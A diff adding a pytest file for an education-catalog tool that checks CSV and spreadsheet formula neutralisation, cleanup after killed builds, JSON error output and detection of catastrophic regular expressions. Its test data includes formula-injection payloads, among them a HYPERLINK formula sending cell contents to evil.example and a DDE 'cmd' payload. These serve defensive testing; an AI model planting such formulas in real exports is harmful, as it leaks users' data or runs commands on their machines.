@@ -1,0 +1,172 @@
+"""Hostile input, round two: formulas never reach a spreadsheet, killed builds leave nothing,
+JSON output survives any failure, unsafe patterns are refused (the corpus in tests/data/bad/
+holds the located-finding cases)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import subprocess
+import sys
+
+import pytest
+from click.testing import CliRunner
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from educat.cli import cli
+from educat.core.cells import FORMULA_START, csv_safe, starts_formula
+from educat.site.build import build_site, remove_stale
+from educat.tables.identifiers import backtracking_risk
+
+from .conftest import write
+
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"点我\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]
+
+
+@given(st.text(max_size=30))
+def test_csv_safe_never_leaves_a_formula_start(text):
+    value = csv_safe(text)
+    assert not starts_formula(value)
+    assert value == text or value == "'" + text  # the text itself is never changed otherwise
+
+
+def plant_formulas(root):
+    """Formula-like text in a record title and a code name, and in dataset cells."""
+    path = root / "catalog/resources/junior.yaml"
+    text = path.read_text(encoding="utf-8").replace("title: 有理数的加法(示例)", "title: '=HYPERLINK(\"https://evil.example\",\"点我\")'")
+    path.write_text(text, encoding="utf-8")
+    write(root / "standards/demo/1.0.0/codelists/gender.csv", "code,name,description\n0,未知的性别,\n1,男,\n2,女,\n9,@SUM(1+1),\n")
+
+
+def test_catalog_csv_and_export_neutralise_formulas(mini_repo, tmp_path):
+    plant_formulas(mini_repo)
+    out = tmp_path / "catalog.csv"
+    result = CliRunner().invoke(cli, ["export", "--root", str(mini_repo), "--format", "csv", "-o", str(out)])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
+    cells = [cell for row in rows for cell in row]
+    assert "'=HYPERLINK(\"https://evil.example\",\"点我\")" in cells
+    assert not any(starts_formula(cell) for cell in cells)
+
+
+def test_downloads_and_template_have_no_formula_cells(mini_repo, tmp_path):
+    from educat.core.loader import load_repo
+    from educat.site.dataset_pages import DatasetPages
+    from educat.standards.template import template_bytes
+
+    plant_formulas(mini_repo)
+    repo, _ = load_repo(mini_repo)
+    std = repo.standards["demo"]["1.0.0"]
+    book = load_workbook(io.BytesIO(template_bytes(std.entities["org"], std, repo)))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert any(cell.value == "@SUM(1+1)" for cell in cells)  # the code name is there, as text
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    res = repo.datasets["orgs"].resources[0]
+    res.fields = [std.entities["org"].field("org_id")]
+    data = DatasetPages.xlsx(res, [{"org_id": value} for value in FORMULAS])
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert [c.value for c in sheet["A"][1:]] == FORMULAS
+    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
+    assert DatasetPages.xlsx(res, [{"org_id": "1"}]) == DatasetPages.xlsx(res, [{"org_id": "1"}])  # repeatable bytes
+
+
+def test_dataset_csv_download_neutralises_formula_cells():
+    import pandas as pd
+
+    from educat.site.dataset_pages import frame_csv
+
+    frame = pd.DataFrame({"name": FORMULAS, "count": [-1, 2, 3, 4, 5, 6]})
+    rows = list(csv.reader(io.StringIO(frame_csv(frame).decode("utf-8-sig"))))
+    assert [row[0] for row in rows[1:]] == ["'" + value for value in FORMULAS]
+    assert [row[1] for row in rows[1:]] == ["-1", "2", "3", "4", "5", "6"]  # numbers are not touched
+
+
+def test_formula_starts_are_the_owasp_set():
+    assert FORMULA_START == ("=", "+", "-", "@", "\t", "\r")
+
+
+# -- builds that were killed ------------------------------------------------------------------------
+def test_a_build_removes_what_a_killed_build_left(mini_repo, tmp_path):
+    out = mini_repo / "site"
+    stale = mini_repo / ".site-build-dead1234"
+    (stale / "assets").mkdir(parents=True)
+    (mini_repo / ".site-build-dead1234.pid").write_text("999999999", encoding="ascii")  # no such process
+    orphan = mini_repo / ".site-old-.site-build-gone"
+    orphan.mkdir()
+    running = mini_repo / ".site-build-alive"
+    running.mkdir()
+    (mini_repo / ".site-build-alive.pid").write_text(str(os.getpid()), encoding="ascii")  # this process: alive
+    build_site(mini_repo, out)
+    left = sorted(p.name for p in mini_repo.iterdir() if p.name.startswith(".site-"))
+    assert left == [".site-build-alive", ".site-build-alive.pid"]
+    assert remove_stale(out) == []
+
+
+def test_a_killed_build_is_cleaned_by_the_next_one(mini_repo):
+    """Kill a real build half-way (SIGKILL, no cleanup runs), then build again."""
+    code = (
+        "import os, sys\n"
+        "from educat.site import build\n"
+        "real = build.mkdocs_build\n"
+        "def killed(config):\n"
+        "    (build.Path(config['site_dir']) / 'half.html').write_text('x')\n"
+        "    os.kill(os.getpid(), 9)\n"
+        "build.mkdocs_build = killed\n"
+        f"build.build_site(build.Path({str(mini_repo)!r}), build.Path({str(mini_repo / 'site')!r}))\n"
+    )
+    subprocess.run([sys.executable, "-c", code], check=False)
+    assert [p.name for p in mini_repo.iterdir() if p.name.startswith(".site-build-") and p.is_dir()]  # the kill left one
+    build_site(mini_repo, mini_repo / "site")
+    assert [p.name for p in mini_repo.iterdir() if p.name.startswith(".site-")] == []
+
+
+# -- JSON output never breaks ----------------------------------------------------------------------
+def test_json_output_survives_an_internal_error(mini_repo, monkeypatch):
+    import educat.validate
+
+    def boom(*args, **kwargs):
+        raise RuntimeError("模拟的缺陷")
+
+    monkeypatch.setattr(educat.validate, "validate_repo", boom)
+    result = CliRunner().invoke(cli, ["validate", "--root", str(mini_repo), "--format", "json"])
+    assert result.exit_code == 1
+    data = json.loads(result.stdout)
+    assert (data["command"], data["valid"]) == ("validate", False)
+    assert [(f["type"], f["severity"]) for f in data["findings"]] == [("internal-error", "error")]
+    assert "模拟的缺陷" in data["findings"][0]["message"] and "Traceback" not in result.output
+
+
+def test_json_output_when_the_command_cannot_start(tmp_path):
+    payload = write(tmp_path / "p.json", "{")
+    result = CliRunner().invoke(cli, ["check-api", str(payload), "--operation", "listStudents", "--format", "json"])
+    assert result.exit_code == 1
+    data = json.loads(result.stdout)
+    assert data["findings"][0]["type"] == "command-error" and "JSON 格式错误" in data["findings"][0]["message"]
+
+
+def test_deep_json_payload_is_refused_with_a_place(tmp_path):
+    payload = write(tmp_path / "deep.json", "[" * 200000 + "]" * 200000)
+    result = CliRunner().invoke(cli, ["check-api", str(payload), "--operation", "listStudents"])
+    assert result.exit_code == 1
+    assert result.output == f"Error: {payload}:1: JSON 嵌套层数过多(超过 64 层)\n"
+
+
+# -- patterns --------------------------------------------------------------------------------------
+@pytest.mark.parametrize("pattern", [r"^(a+)+$", r"^(a*)*$", r"^(\w+\s?)*$", r"^(a|a)*$", r"^(x+x+)+y$", r"^((ab)+)+$", r"^(.*a){20}$"])
+def test_catastrophic_patterns_are_refused(pattern):
+    assert backtracking_risk(pattern)
+
+
+@pytest.mark.parametrize("pattern", [r"^[0-9]{6}$", r"^https?://[^\s]+$", r"^[a-z][a-z0-9-]{2,39}$", r"^(\d{3}-)+\d$", r"^EQ-[0-9]{10}-[0-9]{4}$", r"^(ab|cd)*$", r"^[1-9]\d{5}(18|19|20)\d{2}$"])
+def test_ordinary_patterns_pass(pattern):
+    assert backtracking_risk(pattern) is None
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(alphabet="ab()+*?|.", max_size=12))
+def test_the_pattern_check_never_crashes(pattern):
+    backtracking_risk(pattern)
